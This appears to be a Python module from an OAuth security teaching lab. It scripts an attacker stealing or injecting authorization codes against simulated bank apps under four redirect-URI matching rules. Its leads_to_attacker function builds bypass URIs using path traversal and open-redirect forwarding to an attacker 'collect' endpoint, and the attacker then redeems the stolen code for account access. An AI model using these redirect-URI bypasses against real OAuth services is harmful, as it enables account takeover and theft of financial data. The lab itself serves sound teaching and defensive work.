"""Who starts the flow owns it: three rows, three clients, four ways to compare a redirect URI."""

from labs.matrix import MatrixCell
from labs.stage import Stage, Stuck
from labs.steps import step

NO_CLIENT = {"party": "auth", "method": "POST", "path": "/token", "status": 401, "error": "invalid_client"}
NO_GRANT = {"party": "auth", "method": "POST", "path": "/token", "status": 400, "error": "invalid_grant"}
LEAKED = "The client starts, and the code leaks"
REDEEMED, INJECTED = "The attacker starts and redeems", "The attacker starts and injects"
EXACT = {"party": "auth", "method": "GET", "path": "/authorize", "status": 400}
LOOSE = ("substring", "prefix", "host only")

# What each cell must end in; the first is the attack of the button.
CELLS = [
    MatrixCell(REDEEMED, "balance", {"substring": None, "prefix": None, "host only": None, "exact": EXACT}),
    MatrixCell(REDEEMED, "budget", dict.fromkeys(LOOSE, NO_CLIENT) | {"exact": EXACT}),
    MatrixCell(REDEEMED, "piggy", {"substring": None, "exact": EXACT}),
    MatrixCell(LEAKED, "balance", dict.fromkeys((*LOOSE, "exact"), NO_GRANT)),
    MatrixCell(LEAKED, "budget", dict.fromkeys((*LOOSE, "exact"), NO_CLIENT)),
    MatrixCell(LEAKED, "piggy", dict.fromkeys((*LOOSE, "exact"), NO_GRANT)),
    MatrixCell(INJECTED, "budget", dict.fromkeys(LOOSE, NO_GRANT) | {"exact": EXACT}),
]


@step("attacker")
def makes_a_link(stage: Stage) -> None:
    """Make a link to Bank ID: an app's name, a redirect URI that is almost the app's, an own challenge."""
    cell = stage.cell or CELLS[0]
    client_id = cell.client
    if cell.row == LEAKED:
        stage.onward = "" if client_id == "budget" else stage.app_asks(client_id)
        return
    stage.kept["redirect_uri"] = leads_to_attacker(stage, client_id)
    changes = {}
    # The client will redeem this code with the verifier of Mallory's flow, so the request gets that flow's challenge.
    if cell.row == INJECTED:
        changes = {"code_challenge": stage.mallory_begins()["code_challenge"]}
    stage.onward = stage.link(client_id, stage.kept["redirect_uri"], **changes)


@step("Alice")
def alice_follows_the_link(stage: Stage) -> None:
    """Follow the link, sign in at the real Bank ID as alice, and allow."""
    cell = stage.cell or CELLS[0]
    if cell.row == LEAKED:
        stage.alice.holds_back = stage.callback(cell.client)  # the code is in the URL, the app never gets it
    stage.alice.go(stage.onward or f"{stage.here.budget}/connect").agree()
    stage.onward = ""


@step("attacker")
def spends_the_code(stage: Stage) -> None:
    """Redeem the code that came, with the attacker's own verifier; then ask the bank."""
    cell = stage.cell or CELLS[0]
    if cell.row == LEAKED:
        response = stage.leak("history", stage.alice.handed_over)
        # Whoever only reads the code did not begin the flow, and has no verifier that fits.
        form = {"redirect_uri": stage.callback(cell.client), "code_verifier": "made-up-" * 6}
    else:
        response = {"code": stage.collection.newest("code")}
        form = {"redirect_uri": stage.kept.get("redirect_uri", ""), "code_verifier": stage.kept.get("verifier", "")}
    if not response.get("code"):
        raise Stuck("no code came to the attacker")
    if cell.row == INJECTED:
        stage.mallory_comes_back(stage.callback("budget"), response["code"]).go(f"{stage.here.budget}/")
        return
    token = stage.attacker.redeem(response["code"], client_id=cell.client, **form)
    if token:
        stage.attacker.bank("GET", "/accounts", token)


def leads_to_attacker(stage: Stage, client_id: str) -> str:
    """Return a redirect URI that the rule of this world takes for the client's."""
    # Piggy's scheme has no host and no page that forwards: two of the rules leave nothing to get in by.
    registered, attacker = stage.callback(client_id), f"{stage.here.attacker}/collect"
    if stage.choice == "prefix" and client_id != "piggy":
        return f"{registered}/../leave?to={attacker}"
    if stage.choice == "host only" and client_id != "piggy":
        return f"{stage.here.origin(client_id)}/leave?to={attacker}"
    return f"{attacker}?x={registered}"
